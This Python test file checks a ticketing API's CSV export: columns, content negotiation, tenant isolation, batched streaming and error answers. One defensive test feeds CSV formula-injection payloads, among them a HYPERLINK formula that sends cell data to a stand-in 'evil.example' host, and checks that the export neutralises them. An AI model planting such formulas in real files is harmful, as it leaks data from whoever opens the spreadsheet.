"""CSV answers: the ticket export (`GET /tickets` with `Accept: text/csv`) and the evaluation's buckets."""

from __future__ import annotations

import asyncio
import csv
import datetime as dt
import io
from typing import Any

import pytest
from sqlalchemy import text

from blink_api.kit.csv_export import neutralise, wants_csv
from blink_api.tickets.service import EXPORT_BATCH_ROWS
from tests.factories import Actor, World, make_site
from tests.kit import API, assert_problem, new_ticket
from tests.test_portal_customer_user import (
    closed_ticket,
    days,
    enable,
    evaluation_settings,
)

CSV = {"Accept": "text/csv"}
BOM = "\ufeff".encode()
HEADER = [
    "number",
    "title",
    "status",
    "priority",
    "site",
    "ticket_type",
    "assignee",
    "created_at",
    "closed_at",
    "resolution_days",
]


def rows_of(r: Any) -> list[dict[str, str]]:
    """The CSV answer parsed back: its header must be exactly SPEC's, then one dict per row."""
    assert r.status_code == 200, r.text
    assert r.headers["content-type"] == "text/csv; charset=utf-8"
    assert r.content.startswith(BOM)
    lines = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"), newline="")))
    assert lines[0] == HEADER
    return [dict(zip(HEADER, line, strict=True)) for line in lines[1:]]


async def export(client, caller: Actor, **params: Any) -> list[dict[str, str]]:
    r = await client.get(f"{API}/tickets", headers={**caller.headers, **CSV}, params=params)
    assert r.headers["content-disposition"] == 'attachment; filename="tickets.csv"'
    return rows_of(r)


async def listed_numbers(client, caller: Actor, **params: Any) -> list[str]:
    """The numbers of the JSON list, every page followed."""
    numbers, cursor = [], None
    while True:
        query = {**params, "limit": 100, **({"cursor": cursor} if cursor else {})}
        r = await client.get(f"{API}/tickets", headers=caller.headers, params=query)
        assert r.status_code == 200 and r.headers["content-type"] == "application/json", r.text
        numbers += [t["number"] for t in r.json()["items"]]
        if not (cursor := r.json()["next_cursor"]):
            return numbers


async def test_export_has_spec_columns_names_not_ids_bom_and_umlauts(client, world: World, database):
    h = world.employee_a.headers
    open_one = await new_ticket(
        client, h, world.site_a1, world.type_a, "Türschließer quietscht", assignee_id=str(world.employee_a.id)
    )
    await closed_ticket(client, database, world, resolution=days(3, 5))

    rows = await export(client, world.employee_a)

    assert len(rows) == 2
    first, second = rows  # newest first, like the list
    assert first == {
        "number": open_one["number"],
        "title": "Türschließer quietscht",
        "status": "open",
        "priority": "normal",  # the default: nobody chose one
        "site": "Speicherstadt",
        "ticket_type": "Reklamation",
        "assignee": "Erika Employee",  # the name, not the id
        "created_at": first["created_at"],
        "closed_at": "",
        "resolution_days": "",
    }
    assert dt.datetime.fromisoformat(first["created_at"]) == dt.datetime.fromisoformat(open_one["created_at"])
    assert second["status"] == "closed" and second["resolution_days"] == "3"
    closed_at = dt.datetime.fromisoformat(second["closed_at"])
    assert closed_at - dt.datetime.fromisoformat(second["created_at"]) == days(3, 5)
    assert [row["number"] for row in rows] == await listed_numbers(client, world.employee_a)


@pytest.mark.parametrize(
    "hostile",
    ['=HYPERLINK("https://evil.example/?x="&A1,"Klick")', "+1", "-2", "@SUM(A1:A9)", "=1+1"],
)
async def test_cells_a_spreadsheet_would_evaluate_are_neutralised(client, world: World, session, hostile):
    site = await make_site(session, tenant=world.tenant_a, customer=world.customer_x, name=hostile)
    await session.commit()
    await new_ticket(client, world.employee_a, site, world.type_a, hostile)

    r = await client.get(f"{API}/tickets", headers={**world.employee_a.headers, **CSV})
    (row,) = rows_of(r)
    assert row["title"] == "'" + hostile
    assert row["site"] == "'" + hostile
    assert row["number"].startswith("AAA-")


def test_neutralise_covers_tab_and_carriage_return_and_leaves_other_text():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert neutralise(f"{start}x") == f"'{start}x"
    for harmless in ("Fenster", "", "1-2", "a=b", "'=already", " =spaced"):
        assert neutralise(harmless) == harmless


async def test_customer_user_exports_exactly_its_list_and_nothing_internal(client, world: World):
    await enable(client, world, [world.type_a])
    mine = await new_ticket(client, world.customer_user_x, world.site_a1, world.type_a, "Heizung kalt")
    other_site = await new_ticket(client, world.employee_a, world.site_a2, world.type_a, "Altona Tor")
    other_tenant = await new_ticket(client, world.employee_b, world.site_b1, world.type_b, "Schwabing Dach")
    r = await client.post(
        f"{API}/tickets/{mine['id']}/comments",
        headers=world.employee_a.headers,
        json={"body": "Geheimvermerk Kostenstelle", "internal": True},
    )
    assert r.status_code == 201, r.text

    r = await client.get(f"{API}/tickets", headers={**world.customer_user_x.headers, **CSV})
    rows = rows_of(r)
    assert [row["number"] for row in rows] == await listed_numbers(client, world.customer_user_x)
    assert [row["number"] for row in rows] == [mine["number"]]
    assert other_site["number"] not in r.text and other_tenant["number"] not in r.text
    assert "Geheimvermerk" not in r.text and "Kostenstelle" not in r.text
    # Searching words of an internal note finds nothing for the customer, the ticket for employees.
    assert await export(client, world.customer_user_x, q="Geheimvermerk") == []
    assert [row["number"] for row in await export(client, world.employee_a, q="Geheimvermerk")] == [
        mine["number"]
    ]
    # A customer user without sites exports the header alone.
    assert await export(client, world.customer_user_x2) == []


async def test_export_applies_the_list_filters_and_ignores_paging(client, world: World, database):
    h = world.employee_a.headers
    for i in range(3):
        await new_ticket(client, h, world.site_a1, world.type_a, f"Speicher {i}")
    await new_ticket(client, h, world.site_a2, world.type_a, "Altona")
    await closed_ticket(client, database, world, resolution=days(1))

    assert len(await export(client, world.employee_a, limit=1)) == 5
    for params in (
        {"site_id": str(world.site_a2.id)},
        {"status": "closed"},
        {"status": "open", "site_id": str(world.site_a1.id)},
        {"q": "Altona"},
        {"created_to": "2024-12-31T00:00:00Z"},
    ):
        exported = [row["number"] for row in await export(client, world.employee_a, **params)]
        assert exported == await listed_numbers(client, world.employee_a, **params), params
    assert [
        row["title"] for row in await export(client, world.employee_a, site_id=str(world.site_a2.id))
    ] == ["Altona"]
    # Filters are validated as for the list.
    r = await client.get(f"{API}/tickets", headers={**h, **CSV}, params={"status": "gone"})
    assert_problem(r, 422, ["query", "status"])


async def test_refused_callers_get_problems_not_csv(client, world: World):
    r = await client.get(f"{API}/tickets", headers=CSV)
    assert_problem(r, 401)
    r = await client.get(f"{API}/tickets", headers={"Authorization": "Bearer nonsense", **CSV})
    assert_problem(r, 401)
    r = await client.get(f"{API}/sites/{world.site_a1.id}/ticket-evaluation", headers=CSV)
    assert_problem(r, 401)


@pytest.mark.parametrize(
    ("accept", "csv_answer"),
    [
        (None, False),
        ("*/*", False),
        ("text/*", False),
        ("text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", False),
        ("application/xml", False),
        ("text/csv;q=0", False),
        ("text/csv;q=0.5, application/json", False),
        ("text/csv;q=nonsense", False),
        ("text/csv", True),
        ("TEXT/CSV; charset=utf-8", True),
        ("application/json;q=0.5, text/csv", True),
        ("text/csv, application/json", True),
        ("text/csv;q=0.5, */*", False),
        ("text/csv;q=0.5, application/*;q=0.9", False),
        ("text/csv, */*;q=0.1", True),
        ("text/csv;q=0.5, */*;q=0.9, application/json;q=0.1", True),
    ],
)
def test_csv_only_when_asked(accept, csv_answer):
    assert wants_csv(accept) is csv_answer


async def test_other_accept_values_keep_answering_json(client, world: World):
    await new_ticket(client, world.employee_a, world.site_a1, world.type_a)
    for accept in ("text/html", "application/xml", "*/*", "text/csv;q=0"):
        r = await client.get(f"{API}/tickets", headers={**world.employee_a.headers, "Accept": accept})
        assert r.status_code == 200 and r.headers["content-type"] == "application/json", accept
        assert len(r.json()["items"]) == 1
        # The URL also answers CSV: a cache keeps the two apart.
        assert "accept" in r.headers["vary"].lower(), accept


async def _raw_get(
    app: Any,
    path: str,
    headers: dict[str, str],
    *,
    leave_after_chunks: int | None = None,
    spec_version: str = "2.0",
) -> list[dict[str, Any]]:
    """The ASGI messages the application sends for a GET: a streamed body comes as several. With
    `leave_after_chunks`, the client goes away once it received that many pieces of the body."""
    scope = {
        "type": "http",
        "asgi": {"version": "3.0", "spec_version": spec_version},
        "http_version": "1.1",
        "method": "GET",
        "scheme": "http",
        "path": path,
        "raw_path": path.encode(),
        "root_path": "",
        "query_string": b"",
        "headers": [(b"host", b"testserver")]
        + [(k.lower().encode(), v.encode()) for k, v in headers.items()],
        "client": ("127.0.0.1", 50000),
        "server": ("testserver", 80),
        "state": {},
    }
    sent: list[dict[str, Any]] = []
    requested = False
    gone = asyncio.Event()

    async def receive() -> dict[str, Any]:
        nonlocal requested
        if not requested:
            requested = True
            return {"type": "http.request", "body": b"", "more_body": False}
        await gone.wait()
        return {"type": "http.disconnect"}

    async def send(message: dict[str, Any]) -> None:
        if gone.is_set():
            raise OSError("the client went away")
        sent.append(message)
        chunks = sum(1 for m in sent if m.get("body"))
        if leave_after_chunks is not None and chunks >= leave_after_chunks:
            gone.set()
        await asyncio.sleep(0)  # a network write lets others run

    await app(scope, receive, send)
    return sent


async def test_a_large_export_is_streamed_in_batches(app, client, world: World, database):
    count = EXPORT_BATCH_ROWS * 2 + 17
    async with database.engine.begin() as conn:
        await conn.execute(
            text(
                """
                INSERT INTO tickets (id, tenant_id, site_id, ticket_type_id, number, title, status,
                                     created_by_id, created_at, updated_at)
                SELECT gen_random_uuid(), :tenant, :site, :type, 'AAA-' || lpad(n::text, 6, '0'),
                       'Massenticket ' || n || ' Größe', 'open', :creator,
                       now() - n * interval '1 minute', now()
                FROM generate_series(1, :count) AS n
                """
            ),
            {
                "tenant": world.tenant_a.id,
                "site": world.site_a1.id,
                "type": world.type_a.id,
                "creator": world.employee_a.id,
                "count": count,
            },
        )
    messages = await _raw_get(app, f"{API}/tickets", {**world.employee_a.headers, **CSV})
    start, *bodies = messages
    assert start["type"] == "http.response.start" and start["status"] == 200
    chunks = [m["body"] for m in bodies if m.get("body")]
    # One chunk per batch of rows (the header goes with the first): never the whole export at once.
    assert len(chunks) == 3
    assert max(len(chunk) for chunk in chunks) < sum(len(chunk) for chunk in chunks) / 2
    assert bodies[-1].get("more_body", False) is False
    content = b"".join(chunks)
    lines = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert lines[0] == HEADER and len(lines) == count + 1
    assert lines[1][1] == "Massenticket 1 Größe" and lines[-1][1] == f"Massenticket {count} Größe"
    # The export's own connection went back to the pool.
    assert database.engine.pool.checkedout() == 0

    # A client that leaves half-way ends the export: its cursor, transaction and connection too,
    # whether the server tells by a disconnect message (ASGI < 2.4) or a failing send.
    for spec_version in ("2.0", "2.4"):
        try:
            messages = await _raw_get(
                app,
                f"{API}/tickets",
                {**world.employee_a.headers, **CSV},
                leave_after_chunks=2,
                spec_version=spec_version,
            )
        except OSError:
            pass
        else:
            assert len([m for m in messages if m.get("body")]) < len(chunks)
        assert database.engine.pool.checkedout() == 0, spec_version
    r = await client.get(f"{API}/tickets", headers=world.employee_a.headers, params={"limit": 1})
    assert r.status_code == 200


async def test_evaluations_answer_csv_one_row_per_bucket(client, world: World, database):
    await enable(client, world, [world.type_a])
    await evaluation_settings(client, world, True, 3)
    for d in (1, 10):
        await closed_ticket(client, database, world, resolution=days(d))
    h = {**world.customer_user_x.headers, **CSV}
    for r in (
        await client.get(f"{API}/sites/{world.site_a1.id}/ticket-evaluation", headers=h),
        await client.get(f"{API}/ticket-evaluation", headers=h),
    ):
        assert r.status_code == 200, r.text
        assert r.headers["content-type"] == "text/csv; charset=utf-8"
        assert r.headers["content-disposition"] == 'attachment; filename="ticket-evaluation.csv"'
        assert r.content.startswith(BOM)
        assert list(csv.reader(io.StringIO(r.content.decode("utf-8-sig")))) == [
            ["from_days", "to_days", "count"],
            ["0", "2", "1"],
            ["3", "5", "0"],
            ["6", "8", "0"],
            ["9", "11", "1"],
        ]
    # JSON unless asked; refusals stay problems.
    r = await client.get(
        f"{API}/ticket-evaluation", headers={**world.customer_user_x.headers, "Accept": "*/*"}
    )
    assert r.json()["total"] == 2
    r = await client.get(f"{API}/sites/{world.site_b1.id}/ticket-evaluation", headers=h)
    assert_problem(r, 404)


async def test_openapi_documents_both_content_types(client):
    document = (await client.get("/openapi.json")).json()
    for path in ("/api/v1/tickets", "/api/v1/sites/{site_id}/ticket-evaluation", "/api/v1/ticket-evaluation"):
        content = document["paths"][path]["get"]["responses"]["200"]["content"]
        assert content["text/csv"] == {"schema": {"type": "string"}}, path
        assert "$ref" in content["application/json"]["schema"], path


async def test_an_export_the_database_cannot_start_answers_503_not_an_empty_file(client, world, monkeypatch):
    from sqlalchemy import exc

    from blink_api.tickets import repository

    async def no_connection(*args: Any, **kwargs: Any) -> Any:
        raise exc.TimeoutError("QueuePool limit reached, connection timed out")
        yield  # an async generator, like the real one

    monkeypatch.setattr(repository, "ticket_export", no_connection)
    r = await client.get(f"{API}/tickets", headers={**world.employee_a.headers, **CSV})
    assert_problem(r, 503)
    assert "retry-after" in r.headers


async def test_a_customer_users_api_token_exports_what_its_user_sees(client, world: World):
    await enable(client, world, [world.type_a])
    await new_ticket(client, world.customer_user_x, world.site_a1, world.type_a, "Aufzug steht")
    await new_ticket(client, world.employee_a, world.site_a2, world.type_a, "Nicht sichtbar")
    r = await client.post(
        f"{API}/api-tokens",
        headers=world.customer_user_x.headers,
        json={"name": "CAFM", "scopes": ["tickets:read"]},
    )
    assert r.status_code == 201, r.text
    token = {"Authorization": f"Bearer {r.json()['token']}"}

    by_token = await client.get(f"{API}/tickets", headers={**token, **CSV})
    by_login = await client.get(f"{API}/tickets", headers={**world.customer_user_x.headers, **CSV})
    assert rows_of(by_token) == rows_of(by_login)
    assert [row["title"] for row in rows_of(by_token)] == ["Aufzug steht"]
